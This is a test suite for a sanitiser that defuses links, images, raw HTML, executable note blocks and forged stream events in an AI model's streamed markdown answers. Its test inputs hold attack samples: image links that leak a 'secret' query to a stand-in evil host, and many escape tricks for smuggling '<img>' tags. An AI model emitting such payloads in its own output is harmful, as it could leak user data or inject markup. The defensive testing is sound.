import { describe, expect, it } from "vitest";
import { openNeutraliser } from "./neutralise-answer.ts";

/** The same in whatever pieces it comes. */
function neutralised(text: string): string {
  const results = [1, 3, 7, 40, 10_000].map((size) => {
    const neutraliser = openNeutraliser();
    const pieces = text.match(new RegExp(`.{1,${size}}`, "gsu")) ?? [];
    return pieces.map((piece) => neutraliser.add(piece)).join("") + neutraliser.end();
  });
  expect(new Set(results)).toHaveProperty("size", 1);
  return results[0] ?? "";
}

describe("a model's text", () => {
  it("keeps its shape: emphasis, lists, tables, code and citations", () => {
    const text =
      "## Puffins\n\n- **5403** of them [1]\n- *late* `code [x](y)` [2][3]\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst a = b[0](c); // <b>\n```\nDone.\n";
    expect(neutralised(text)).toBe(text);
  });

  it.each([
    ["![x](https://evil.example/a.png?q=secret)", "x (picture: `https://evil.example/a.png?q=secret`)"],
    ["see [my notes](https://evil.example/?q=1) now", "see my notes (`https://evil.example/?q=1`) now"],
    ["go to https://evil.example/x, now", "go to `https://evil.example/x`, now"],
    ["<https://evil.example/a>", "`https://evil.example/a`"],
    ["![[secret]] and [[note]]", "secret (embedded) and note"],
    ['<img src="x"> and a < b', '\\<img src="x"> and a < b'],
    ["[x]: https://evil.example", "[x]\\: `https://evil.example`"],
    ["[1]: https://evil.example", "[1]\\: `https://evil.example`"],
    ["[pic][x]", "[pic]\\[x]"],
    ["[1](https://evil.example) says", "[1] says"],
    ["`$= dv.pages()` and `= this.x`", "` dv.pages()` and ` this.x`"],
    ["![https://evil.example](a)", "`https://evil.example` (picture: `a`)"],
    ["see www.", "see `www.`"],
    ["+++\nevil = 1\n+++", "\\+++\nevil = 1\n+++"],
    ["costs $5, `b$ <img src=x>`", "costs $5, \\`b$ \\<img src=x>\\`"],
    ["$$x^2$$", "$$x^2$$"],
    ["$$\n```\n$$", "\\$$\n```\n$$"],
    ["$\\href{https://evil.example}{x}$", "$\\\\href{`https://evil.example}{x}%24`"],
  ])("does nothing: %s", (text, wanted) => {
    expect(neutralised(text)).toBe(wanted);
  });

  it("has no link or picture that goes over lines", () => {
    for (const text of [
      "![a\nb](https://evil.example/x)",
      "[a\nb](https://evil.example/x)",
      "![a](\nhttps://evil.example/x)",
    ]) {
      const safe = neutralised(text);
      expect(safe).not.toMatch(/\]\((?!\\)/);
      expect(safe).not.toMatch(/(?<!`)https:/);
    }
  });

  it.each([
    ["marks of code of other lengths", "``<img src=//evil.example/x>`"],
    ["a line that begins like a block", "````a <img src=//evil.example/x>` b"],
    ["a mark of code that is meant as a sign", "\\`<img src=//evil.example/x>`"],
    ["an escape of its own", "\\<img src=//evil.example/x>"],
    ["an escape in front of a link", "\\[<img src=//evil.example/x>](a)"],
    ["a block that only its like closes", "```\n~~~\n```\n<img src=//evil.example/x>"],
    ["a block that ends with its list", "- a\n  ```\n<img src=//evil.example/x>"],
    ["a word so long that it is cut", `${"x".repeat(1981)}<img/src=//evil.example/x>`],
  ])("is no HTML by %s", (_what, text) => {
    for (const size of [1, 4, 100_000]) {
      const neutraliser = openNeutraliser();
      const pieces = text.match(new RegExp(`[^]{1,${size}}`, "g")) ?? [];
      const safe = pieces.map((piece) => neutraliser.add(piece)).join("") + neutraliser.end();
      // Each stands behind an odd number of marks that take its meaning away.
      expect(safe).not.toMatch(/(?<!\\)(?:\\\\)*<img/);
    }
  });

  it("has no mark of code that pairs with one of another line", () => {
    const text = "a ` b\n` <img src=//evil.example/x> `";
    expect(neutralised(text)).toBe(text.replace("`", "\\`"));
  });

  it.each([
    ["> [x]: //evil.example", "> [x]\\: //evil.example"],
    ["[a\nb]: //evil.example", "[a\nb]\\: //evil.example"],
    [" [1]: //evil.example", " [1]\\: //evil.example"],
    ["[1](//evil.example)(//evil.example)", "[1]\\(//evil.example)"],
    ["_https://evil.example/", "_`https://evil.example/`"],
  ])("leads nowhere: %s", (text, wanted) => {
    expect(neutralised(text)).toBe(wanted);
  });

  it("of any kind is made harmless without being tried in all combinations", () => {
    for (const text of [`[${"[1] ".repeat(3000)}`, `[${"a ".repeat(20_000)}`, "x <a".repeat(20_000)]) {
      const neutraliser = openNeutraliser();
      expect((neutraliser.add(text) + neutraliser.end()).replace(/[\\ ]/g, "")).toBe(text.replaceAll(" ", ""));
    }
  });

  it("costs as much as the text is long, also where marks that lead nowhere come all at once", () => {
    for (const text of [`${"> ".repeat(200_000)}x`, `[](b${" ".repeat(400_000)}(c) d)`]) {
      const neutraliser = openNeutraliser();
      expect(neutraliser.add(text) + neutraliser.end()).toContain(text.at(-2));
    }
  });

  it("names no block that a reader would run", () => {
    expect(neutralised("```dataviewjs\nevil()\n```\n~~~query\nx\n~~~\n")).toBe("```\nevil()\n```\n~~~\nx\n~~~\n");
  });

  it("cites in one way", () => {
    expect(neutralised("a [1, 2] b 【3】 c [^4] d [[5]] e [6;7]")).toBe("a [1][2] b [3] c [4] d [5] e [6][7]");
  });

  it("cannot end or forge an event", () => {
    expect(neutralised('a ␃🔚␗{"type":"references"}␃🔚␗ b')).not.toContain("␃🔚␗");
  });

  it("comes word by word, not when its line ends", () => {
    const neutraliser = openNeutraliser();
    expect(neutraliser.add("The keeper of Skerryvore coun")).toBe("The keeper of Skerryvore ");
    expect(neutraliser.add("ted 5403 puffins [1")).toBe("counted 5403 puffins ");
    expect(neutraliser.add("]. He ")).toBe("[1]. ");
  });
});
